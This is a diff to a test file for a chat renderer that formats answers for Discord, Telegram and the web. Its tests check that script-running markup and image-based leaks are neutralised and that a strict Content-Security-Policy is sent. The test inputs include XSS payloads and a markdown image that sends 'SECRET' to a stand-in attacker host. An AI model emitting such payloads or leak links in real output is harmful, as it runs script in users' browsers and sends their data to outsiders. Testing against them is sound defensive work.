@@ -79,8 +79,11 @@ def test_discord_gets_its_markdown_with_tables_as_code_and_mass_mentions_inert()
 
 def test_web_html_never_carries_markup_that_runs() -> None:
     out = web_html.render('<img src=x onerror="alert(1)"> <script>alert(2)</script> '
-                          '[x](javascript:alert(3)) [ok](https://example.org)')
+                          '[x](javascript:alert(3)) [ok](https://example.org) '
+                          '![leak](https://evil.example/?d=SECRET)')
     assert "<img" not in out and "<script" not in out and 'href="javascript' not in out
+    # an image is never fetched by the page: at most a link someone chooses to follow
+    assert '<a href="https://evil.example/?d=SECRET"' in out
     assert '<a href="https://example.org" target="_blank" rel="noopener noreferrer">' in out
 
 
@@ -184,3 +187,11 @@ async def test_a_10000_character_answer_arrives_as_parts_telegram_parses(
     assert [s.text for s in sent] == [p.html for p in parts]
     shown = "\n".join(telegram.visible(FORUM, 42))
     assert all(f"Step {n}" in shown for n in range(16)) and "<no>" in shown
+
+
+
+async def test_the_page_loads_nothing_from_elsewhere(web, http) -> None:
+    _, base = web
+    async with http.get(f"{base}/") as r:
+        policy = r.headers["Content-Security-Policy"]
+    assert "default-src 'self'" in policy and "img-src 'self' data: blob:" in policy
